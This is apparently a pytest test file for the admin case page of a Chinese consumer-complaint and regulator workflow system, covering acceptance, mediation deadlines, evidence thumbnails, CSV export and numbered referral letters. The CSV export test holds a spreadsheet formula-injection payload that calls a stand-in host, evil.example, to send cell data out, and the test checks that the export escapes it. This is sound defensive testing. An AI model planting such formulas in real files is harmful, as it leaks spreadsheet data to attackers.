"""The case page as the regulator's workplace: the steps this case offers as buttons with their
own fields, acceptance starting the mediation clock and assigning, the merchant reachable,
evidence inline, Beijing-time history, Chinese exports and the numbered 移送函."""

import datetime as dt
import re
from zoneinfo import ZoneInfo

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from complaints import services
from complaints.evidence import check_upload
from core.documents import pdf_text
from core.models import AuditEntry, FormalDocument
from core.workdays import add_working_days
from tests.complaints.conftest import png_bytes

pytestmark = pytest.mark.django_db
SH = ZoneInfo("Asia/Shanghai")


def steps_on(html: str) -> list[str]:
    return re.findall(r'data-step="([a-z_]+)"', html)


def test_a_received_complaint_offers_accept_and_refuse_and_nothing_of_a_report(
    client, submit, regulator
):
    case, _ = submit()
    client.force_login(regulator)
    html = client.get(f"/admin/complaints/case/{case.pk}/change/").content.decode()
    steps = steps_on(html)
    assert steps[:2] == ["accept", "refuse"]
    assert "open_case" not in steps and "verify" not in steps and "mediation_end" not in steps
    assert 'name="action"' not in html  # no drop-down of every action
    # The refusal form asks for its ground; the acceptance form asks for nothing.
    refuse = html[html.index('data-step="refuse"') :]
    refuse = refuse[: refuse.index("</details>")]
    assert 'name="ground"' in refuse and 'name="end_reason"' not in refuse
    accept = html[html.index('data-step="accept"') :]
    accept = accept[: accept.index("</details>")]
    assert "<select" not in accept and "<textarea" not in accept


def test_a_report_under_verification_offers_the_report_steps(client, submit, supervisor):
    report, _ = submit(kind="report")
    services.verification_start(case=report, actor=supervisor)
    client.force_login(supervisor)
    steps = steps_on(client.get(f"/admin/complaints/case/{report.pk}/change/").content.decode())
    assert {"open_case", "not_opened", "extend", "refer"} <= set(steps)
    assert "accept" not in steps and "agree" not in steps


def test_acceptance_starts_the_45_working_day_clock_and_assigns_the_case(
    client, submit, regulator, time_machine
):
    time_machine.move_to(dt.datetime(2026, 11, 2, 10, tzinfo=SH), tick=False)
    case, _ = submit()
    client.force_login(regulator)
    response = client.post(f"/admin/complaints/case/{case.pk}/workflow/", {"step": "accept"})
    assert response.status_code == 302
    case.refresh_from_db()
    due = add_working_days(dt.date(2026, 11, 2), 45)
    assert case.status == "accepted" and case.assignee == regulator
    assert case.mediation_started_on == dt.date(2026, 11, 2) and case.mediation_due == due
    assert case.current_due == due and case.sla == "ok"
    html = client.get(f"/admin/complaints/case/{case.pk}/change/").content.decode()
    assert due.isoformat() in html and "data-assignee>gz-regulator" in html
    # Starting mediation later does not restart the clock the end reason refers to.
    time_machine.move_to(dt.datetime(2026, 11, 20, 10, tzinfo=SH), tick=False)
    services.mediation_start(case=case, actor=regulator)
    case.refresh_from_db()
    assert case.mediation_due == due and case.mediation_started_on == dt.date(2026, 11, 2)
    assert services.MEDIATION_END_REASONS["time_limit"].startswith("自受理之日起")


def test_accept_mediate_close_from_the_case_page(client, submit, regulator):
    case, _ = submit()
    client.force_login(regulator)
    url = f"/admin/complaints/case/{case.pk}/workflow/"
    for step, data in [
        ("accept", {}),
        ("mediation_start", {}),
        ("agree", {"summary": "商家退款299元"}),
        ("close", {"note": ""}),
    ]:
        assert client.post(url, {"step": step, **data}).status_code == 302, step
    case.refresh_from_db()
    assert case.status == "closed" and case.outcome_reason == "商家退款299元"


def test_a_step_with_a_missing_field_shows_its_own_form_again(client, submit, regulator):
    case, _ = submit()
    client.force_login(regulator)
    response = client.post(f"/admin/complaints/case/{case.pk}/workflow/", {"step": "refuse"})
    html = response.content.decode()
    assert response.status_code == 200 and "该字段是必填项。" in html
    assert 'name="ground"' in html and 'name="end_reason"' not in html
    case.refresh_from_db()
    assert case.status == "received"


def test_the_named_merchant_takes_the_handling_region_and_is_linked(client, submit, regulator):
    case, _ = submit(merchant_wechat_id="xiaomei_lv888", merchant_name="小美代购")
    case.refresh_from_db()
    assert case.merchant is not None and case.merchant.region_code == case.region_code
    client.force_login(regulator)
    html = client.get(f"/admin/complaints/case/{case.pk}/change/").content.decode()
    link = re.search(r'href="([^"]+)" data-merchant-link', html).group(1)
    assert client.get(link).status_code == 200
    queue = client.get("/admin/merchants/merchant/").content.decode()
    assert "小美代购" in queue


def test_a_merchant_outside_the_viewers_regions_is_named_without_a_link(client, submit, regulator):
    case, _ = submit()
    case.refresh_from_db()
    type(case.merchant).objects.filter(pk=case.merchant_id).update(region_code="310101")
    client.force_login(regulator)
    html = client.get(f"/admin/complaints/case/{case.pk}/change/").content.decode()
    assert "data-merchant-link" not in html and "美妆小铺" in html


def test_image_evidence_is_shown_inline_and_each_view_is_audited(client, submit, regulator):
    case, _ = submit(files=[check_upload(SimpleUploadedFile("chat.png", png_bytes((40, 40))))])
    item = case.evidence.get()
    client.force_login(regulator)
    html = client.get(f"/admin/complaints/case/{case.pk}/change/").content.decode()
    thumb = f"/admin/complaints/case/{case.pk}/evidence/{item.pk}/thumb/"
    assert f'<img src="{thumb}"' in html
    response = client.get(thumb)
    assert response.status_code == 200 and response["Content-Type"] == "image/jpeg"
    assert b"".join(response.streaming_content)[:2] == b"\xff\xd8"
    assert AuditEntry.objects.filter(action="complaint.evidence_viewed").count() == 1


def test_a_reports_thumbnails_are_not_shown_outside_the_case(client, submit, regulator):
    report, _ = submit(
        kind="report", files=[check_upload(SimpleUploadedFile("a.png", png_bytes()))]
    )
    item = report.evidence.get()
    client.force_login(regulator)
    html = client.get(f"/admin/complaints/case/{report.pk}/change/").content.decode()
    assert "<img" not in html.split("data-evidence=")[1][:300]
    thumb = f"/admin/complaints/case/{report.pk}/evidence/{item.pk}/thumb/"
    assert client.get(thumb).status_code == 404
    assert AuditEntry.objects.filter(action="complaint.evidence_denied").count() == 1


def test_the_history_is_in_beijing_time(client, submit, regulator, time_machine):
    time_machine.move_to(dt.datetime(2026, 12, 1, 19, 35, tzinfo=dt.UTC), tick=False)
    case, _ = submit()
    client.force_login(regulator)
    html = client.get(f"/admin/complaints/case/{case.pk}/change/").content.decode()
    history = html[html.index("data-history") :]
    assert "2026-12-02 03:35" in history and "2026-12-01 19:35" not in history


def test_the_csv_export_is_in_chinese_and_escapes_formulas(client, submit, regulator):
    case, _ = submit(merchant_name='=HYPERLINK("http://evil.example/?x="&A2,"点击查看")')
    client.force_login(regulator)
    response = client.post(
        "/admin/complaints/case/", {"action": "export_csv", "_selected_action": [case.pk]}
    )
    body = response.content.decode("utf-8-sig")
    header = body.splitlines()[0]
    assert header.startswith("受理编号,类型,状态") and "tracking_number" not in header
    assert ",投诉,已收到," in body
    assert "'=HYPERLINK" in body and ',"=HYPERLINK' not in body


def test_a_referral_prints_a_numbered_referral_letter(client, submit, supervisor, time_machine):
    time_machine.move_to(dt.datetime(2026, 12, 3, 10, tzinfo=SH), tick=False)
    first, _ = submit(kind="report")
    second, _ = submit(kind="report", description="另一条线索：钓鱼付款链接。")
    client.force_login(supervisor)
    for case in (first, second):
        response = client.post(
            f"/admin/complaints/case/{case.pk}/workflow/",
            {"step": "refer", "region_code": "440100", "department": "广州市公安局",
             "reason": "涉嫌诈骗，属公安机关管辖"},
        )  # fmt: skip
        assert response.status_code == 302
    numbers = list(FormalDocument.objects.order_by("sequence").values_list("number", flat=True))
    assert numbers == ["市监移〔2026〕1号", "市监移〔2026〕2号"]
    html = client.get(f"/admin/complaints/case/{second.pk}/change/").content.decode()
    link = re.search(r'href="([^"]+)" data-document="市监移〔2026〕2号"', html).group(1)
    pdf = client.get(link.replace("&amp;", "&"))
    assert pdf.status_code == 200 and pdf["Content-Type"] == "application/pdf"
    text = pdf_text(pdf.content)
    assert "市监移〔2026〕2号" in text and "广州市公安局" in text and "案件线索移送函" in text
    assert AuditEntry.objects.filter(action="document.issued").count() == 2
